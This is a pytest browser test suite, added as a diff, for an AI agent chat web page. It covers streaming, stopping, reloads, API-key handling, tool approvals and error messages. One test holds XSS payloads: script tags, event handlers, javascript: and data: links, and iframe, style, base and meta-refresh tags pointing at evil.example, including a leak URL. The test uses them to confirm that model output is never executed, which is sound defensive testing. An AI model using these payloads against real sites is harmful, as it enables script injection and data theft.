@@ -1,0 +1,398 @@
+"""The web page in a real browser, used as people use it. Skipped where there is none."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncGenerator, Iterator
+from contextlib import asynccontextmanager
+from itertools import pairwise
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from server.http_server import Api, api
+from server.web import chromium
+from server.web.chromium import Browser, Tab, browsing
+from tailrace.messages import JsonObject
+from tailrace.ports import Effect, ToolContext, ToolOutcome
+from tailrace.testing.provider import Break, Offset, Reply, Scenario, call, reply, say
+from tailrace.tools.typed import Arguments, TypedTool
+
+pytestmark = pytest.mark.skipif(chromium.PROGRAM is None, reason="needs Chromium: apt-get install chromium")
+KEY = "sk-the-key-of-the-page"
+WORDS = " ".join(f"word{number}" for number in range(1, 101))
+PACED = Scenario(reply=reply(WORDS), pace_s=0.02)  # two seconds
+STALLED = Scenario(reply=reply("one two three four five six"), broken=Break("stall", Offset(60, per_cent=True)))
+# Keeps what the first answer was at each moment, for `seen`.
+RECORDER = """
+window.seen = [];
+new MutationObserver(() => {
+  const shown = document.querySelector(".answer")?.textContent ?? "";
+  if (shown !== (seen.at(-1) ?? "")) seen.push(shown);
+}).observe(document, { subtree: true, childList: true, characterData: true });
+"""
+ENDED = 'document.querySelector("article:last-child .answer")?.ariaBusy === "false"'
+
+
+@pytest.fixture(scope="module")
+def devtools(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    with chromium.started(tmp_path_factory.mktemp("chromium")) as address:
+        yield address
+
+
+@asynccontextmanager
+async def page(
+    devtools: str, home: Path, *script: str | Scenario | Reply, **kwargs: Any
+) -> AsyncGenerator[tuple[Api, Browser, Tab], None]:
+    async with api(home, *script, **kwargs) as server, browsing(devtools) as browser:
+        yield server, browser, await browser.tab(server.url + "/", script=RECORDER)
+
+
+async def answer(tab: Tab) -> str:
+    """The last answer, once it is whole."""
+    await tab.until(ENDED)
+    return await tab.text("article:last-child .answer")
+
+
+# ── controls ─────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+async def test_the_controls_have_names_and_the_keyboard_is_enough(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, reply("Hello."), reply("Again.")) as (server, _, tab):
+        await tab.find("textbox", "Message")
+        for name in ("Send", "Stop"):
+            await tab.find("button", name)
+        assert await tab.value("document.activeElement.id") == "message", "one can type at once"
+        await tab.write("Message", "Hi.")
+        await tab.enter()
+        assert await answer(tab) == "Hello."
+        assert await tab.value("document.querySelector('#message').value") == ""
+        await tab.write("Message", "More.")
+        await tab.enter()
+        await tab.until_shown("Again.")
+        asked = [message["content"] for message in server.provider.requests[1].json()["messages"]]
+    assert asked[-3:] == ["Hi.", "Hello.", "More."], "one conversation"
+    assert tab.complaints == []
+
+
+# ── streaming ────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+async def test_text_appears_as_it_comes(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, PACED) as (_, _, tab):
+        await tab.send("Count.")
+        assert await answer(tab) == WORDS
+        seen = await tab.value("seen")
+    assert len(seen) > 20, "of a hundred pieces in two seconds, at the pace of the screen"
+    assert all(later.startswith(earlier) for earlier, later in pairwise(seen))
+    assert tab.complaints == []
+
+
+async def test_stop_ends_the_run_and_keeps_what_was_shown(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, STALLED) as (server, _, tab):
+        assert await tab.value("document.querySelector('#stop').disabled")
+        await tab.send("Count.")
+        await tab.until_shown("three")
+        await tab.press("Stop")
+        shown = await answer(tab)
+        note = await tab.text("article .note")
+        assert await tab.value("document.querySelector('#stop').disabled")
+        _, runs = await server.json("GET", "/runs")
+    assert shown.startswith("one two three")
+    assert note.startswith("Stopped")
+    assert [run["status"] for run in runs["data"]] == ["stopped"]
+    assert tab.complaints == []
+
+
+async def test_stop_works_while_the_provider_is_silent(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, "silence") as (server, _, tab):
+        await tab.send("Anybody there?")
+        await server.provider.request()
+        await tab.press("Stop")
+        await tab.until_shown("Stopped")
+        _, runs = await server.json("GET", "/runs")
+    assert [run["status"] for run in runs["data"]] == ["stopped"]
+
+
+async def test_a_reload_in_the_middle_goes_on_without_loss_or_doubling(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, PACED) as (server, _, tab):
+        await tab.send("Count.")
+        await tab.until_shown("word10 ")
+        await tab.reload()
+        assert await answer(tab) == WORDS
+        seen = await tab.value("seen")
+        articles = await tab.value("document.querySelectorAll('article').length")
+        question = await tab.text(".question")
+    assert len(seen) > 5, "it was still coming when the page was back"
+    assert all(WORDS.startswith(shown) for shown in seen)
+    assert (articles, question) == (1, "Count.")
+    assert len(server.provider.requests) == 1
+    assert tab.complaints == []
+
+
+async def test_a_lost_connection_is_taken_up_where_it_broke(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, PACED) as (server, _, tab):
+        await tab.send("Count.")
+        for word in ("word10 ", "word30 "):
+            await tab.until_shown(word)
+            for stream in tuple(server.frame._streams):
+                stream._drop()
+            await tab.until_shown("Reconnecting")
+        assert await answer(tab) == WORDS
+        seen = await tab.value("seen")
+        status = await tab.text("#status")
+    assert all(WORDS.startswith(shown) for shown in seen)
+    assert status == ""
+
+
+async def test_two_tabs_show_the_same_run(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, PACED) as (_, browser, tab):
+        await tab.send("Count.")
+        await tab.until_shown("word5 ")
+        other = await browser.tab(await tab.value("location.href"), script=RECORDER)
+        assert await answer(tab) == await answer(other) == WORDS
+        assert len(await other.value("seen")) > 5
+
+
+async def test_a_second_message_takes_over_from_the_first(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, STALLED, reply("Now this.")) as (_, _, tab):
+        await tab.send("Count.")
+        await tab.until_shown("three")
+        await tab.send("Stop that.")
+        await tab.until_shown("Now this.")
+        await tab.until_shown("Stopped")
+        assert await answer(tab) == "Now this."
+        assert await tab.value("document.querySelector('#stop').disabled")
+
+
+# ── the key ──────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+async def test_the_key_is_asked_for_once_and_kept_for_the_tab(devtools: str, tmp_path: Path) -> None:
+    asked = "document.querySelector('#key-dialog').open"
+    env = {"TAILRACE_API_KEY": KEY}
+    async with page(devtools, tmp_path, reply("Hello."), reply("Again."), env=env) as (server, browser, tab):
+        await tab.send("Hi.")
+        for key in ("wrong", KEY):
+            await tab.until(asked)
+            assert await tab.value("document.querySelector('#key').value") == ""
+            await tab.write("API key", key)
+            await tab.press("Continue")
+        assert await answer(tab) == "Hello."
+        await tab.reload()
+        await tab.until_shown("Hello.")
+        await tab.send("More.")
+        await tab.until_shown("Again.")
+        assert not await tab.value(asked)
+        other = await browser.tab(await tab.value("location.href"))
+        await other.until(asked)
+        assert "Hello." not in await other.text("#log")
+        kept = await tab.value("JSON.stringify([{ ...localStorage }, document.cookie, location.href])")
+    assert KEY not in kept
+    assert len(server.provider.requests) == 2
+
+
+# ── what models write ────────────────────────────────────────────────────────────────────────────────────────
+
+HOSTILE = """<script>window.pwned = 1; alert(1)</script>
+
+<img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3"> <iframe src="https://evil.example/frame"></iframe>
+
+[click](javascript:window.pwned=4) [data](data:text/html,<script>alert(5)</script>) ![leak](https://evil.example/leak?x=1)
+
+<style>@import url(https://evil.example/style.css)</style> <base href="https://evil.example/">
+
+```html
+<script>window.pwned = 6</script>
+```
+
+| <b onclick="window.pwned=7">a</b> |
+|---|
+| <meta http-equiv=refresh content="0;url=https://evil.example/"> |
+"""
+ONE_LINE = '<img src=x onerror="window.pwned=8"><script>window.pwned=9</script>'
+HARMLESS = {
+    *("ARTICLE", "DIV", "P", "UL", "OL", "LI", "PRE", "CODE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "A"),
+    *("SECTION", "BUTTON", "STRONG", "EM"),
+}
+
+
+class What(Arguments):
+    what: str
+
+
+class Launch(TypedTool[What]):
+    """Acts outside this machine: somebody has to be asked."""
+
+    name = "launch"
+    description = "Launch something."
+    Args = What
+
+    def effect(self, args: JsonObject) -> Effect:
+        return Effect("external", f"launch {args['what']}")
+
+    async def do(self, args: What, context: ToolContext) -> ToolOutcome:
+        return ToolOutcome(f"launched {args.what}")
+
+
+async def test_J123_what_is_shown_is_never_run(devtools: str, tmp_path: Path) -> None:
+    script = (reply(say(HOSTILE), call("launch", {"what": ONE_LINE})), reply(HOSTILE))
+    async with page(devtools, tmp_path, *script, tools=(Launch(),)) as (server, _, tab):
+        await tab.send(HOSTILE)
+        await tab.until("document.querySelector('.approval button')")
+        await tab.press("Approve once")
+        await answer(tab)
+        shown = await tab.text("#log")
+        for _ in range(2):  # as it came, and as it is found again
+            tags = set(await tab.value("[...document.querySelectorAll('#log *')].map((node) => node.tagName)"))
+            links = await tab.value("[...document.querySelectorAll('#log a')].map((node) => node.protocol)")
+            assert tags <= HARMLESS
+            assert set(links) <= {"https:"}
+            assert await tab.value("window.pwned ?? null") is None
+            await tab.reload()
+            await tab.until(ENDED)
+    assert shown.count("<script>window.pwned = 1; alert(1)</script>") == 3, "in the question and both answers"
+    assert shown.count(ONE_LINE) == 2, "in the approval and the tool's line"
+    assert tab.dialogs == []
+    assert all(url.startswith(server.url) for url in tab.requests)
+    assert not [complaint for complaint in tab.complaints if "Content Security Policy" in complaint]
+
+
+# ── tools and approvals ──────────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    ("button", "outcome", "asks_again"),
+    [
+        ("Approve once", "Approved (once)", True),
+        ("Approve for session", "Approved (session)", False),
+        ("Always", "Approved (always)", False),
+        ("Deny", "Denied", True),
+    ],
+)
+async def test_a_tool_is_approved_or_denied_from_the_page(
+    devtools: str, tmp_path: Path, button: str, outcome: str, asks_again: bool
+) -> None:
+    launch, denied = reply(say("I will."), call("launch", {"what": "it"})), button == "Deny"
+    script = (launch, reply("Done."), launch, reply("Done again."))
+    async with page(devtools, tmp_path, *script, tools=(Launch(),)) as (server, _, tab):
+        await tab.send("Launch it.")
+        await tab.until("document.querySelector('.approval button')")
+        assert "launch it" in await tab.text(".approval pre")
+        await tab.press(button)
+        await tab.until_shown("Done.")
+        box, line = await tab.text(".approval"), await tab.text(".tool")
+        state = await tab.value("document.querySelector('.tool').dataset.state")
+        await tab.until(ENDED)
+        await tab.send("And again.")
+        if asks_again:
+            await tab.until("document.querySelector('article:last-child .approval button')")
+            await tab.press("Deny")
+        await tab.until_shown("Done again.")
+        boxes = await tab.value("document.querySelectorAll('.approval').length")
+        told = server.provider.requests[1].json()["messages"][-1]["content"]
+    assert outcome in box
+    assert line.startswith("launch")
+    assert state == ("failed" if denied else "done")
+    assert ("launched it" in told) is not denied
+    assert boxes == (2 if asks_again else 1)
+    assert tab.complaints == []
+
+
+class Hold(TypedTool[What]):
+    """Runs until the test lets it go."""
+
+    name = "hold"
+    description = "Hold on."
+    Args = What
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.go_on = asyncio.Event()
+
+    async def do(self, args: What, context: ToolContext) -> ToolOutcome:
+        if args.what == "third":
+            await self.go_on.wait()
+        return ToolOutcome("held")
+
+
+async def test_a_reload_finds_texts_and_tools_in_the_order_in_which_they_came(devtools: str, tmp_path: Path) -> None:
+    rounds = [reply(say(f"The {what} step."), call("hold", {"what": what})) for what in ("first", "second", "third")]
+    hold = Hold()
+    waiting = "/third step\\.\\s+hold third$/.test(document.querySelector('.answer')?.innerText)"
+    async with page(devtools, tmp_path, *rounds, reply("All done."), tools=(hold,)) as (_, _, tab):
+        await tab.send("Three steps.")
+        await tab.until(waiting)
+        running = await tab.text(".answer")
+        await tab.reload()
+        await tab.until(waiting)
+        assert await tab.text(".answer") == running
+        hold.go_on.set()
+        whole = await answer(tab)
+        await tab.reload()
+        assert await answer(tab) == whole
+    steps = [line.partition(" — ")[0].split(" ")[0] for line in whole.splitlines() if line]
+    assert steps == ["The", "hold", "The", "hold", "The", "hold", "All"]
+
+
+async def test_an_approval_that_is_open_is_found_after_a_reload(devtools: str, tmp_path: Path) -> None:
+    script = (reply(say("I will."), call("launch", {"what": "it"})), reply("Done."))
+    async with page(devtools, tmp_path, *script, tools=(Launch(),)) as (_, _, tab):
+        await tab.send("Launch it.")
+        await tab.until("document.querySelector('.approval button')")
+        await tab.reload()
+        await tab.until("document.querySelector('.approval button')")
+        await tab.press("Approve once")
+        whole = await answer(tab)
+        await tab.reload()
+        assert await answer(tab) == whole
+    assert whole.index("I will.") < whole.index("Approved (once)") < whole.index("Done.")
+
+
+async def test_a_question_that_nobody_answered_cannot_be_answered_after_the_end(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, reply(call("launch", {"what": "it"})), tools=(Launch(),)) as (_, _, tab):
+        await tab.send("Launch it.")
+        await tab.until("document.querySelector('.approval button')")
+        await tab.press("Stop")
+        for _ in range(2):
+            assert "Not answered" in await answer(tab)
+            assert await tab.value("document.querySelectorAll('.approval button').length") == 0
+            await tab.reload()
+
+
+async def test_a_double_click_is_one_answer(devtools: str, tmp_path: Path) -> None:
+    script = (reply(call("launch", {"what": "it"})), reply("Done."))
+    async with page(devtools, tmp_path, *script, tools=(Launch(),)) as (_, _, tab):
+        await tab.send("Launch it.")
+        await tab.until("document.querySelector('.approval button')")
+        await tab.value("{ const once = document.querySelector('.approval button'); once.click(); once.click(); }")
+        assert (await answer(tab)).endswith("Done.")
+        answers = [url for url in tab.requests if url.endswith("/approval")]
+        assert await tab.text("#status") == ""
+    assert len(answers) == 1
+
+
+# ── failures ─────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+async def test_a_failed_run_says_why_in_words(devtools: str, tmp_path: Path) -> None:
+    async with page(devtools, tmp_path, *["status-401"] * 3) as (_, _, tab):
+        await tab.send("Hi.")
+        await tab.until(ENDED)
+        note = await tab.text(".note")
+        await tab.reload()
+        await tab.until(ENDED)
+        assert await tab.text(".note") == note
+    assert note == "The run failed: other: Incorrect API key provided"
+
+
+async def test_a_server_that_is_gone_is_said_and_the_message_kept(devtools: str, tmp_path: Path) -> None:
+    async with browsing(devtools) as browser:
+        async with api(tmp_path, reply("Hello.")) as server:
+            tab = await browser.tab(server.url + "/")
+        await tab.send("Anybody?")
+        await tab.until_shown("The server cannot be reached.")
+        assert json.loads(await tab.value("JSON.stringify(document.querySelector('#message').value)")) == "Anybody?"
+        assert await tab.value("document.querySelectorAll('article').length") == 0
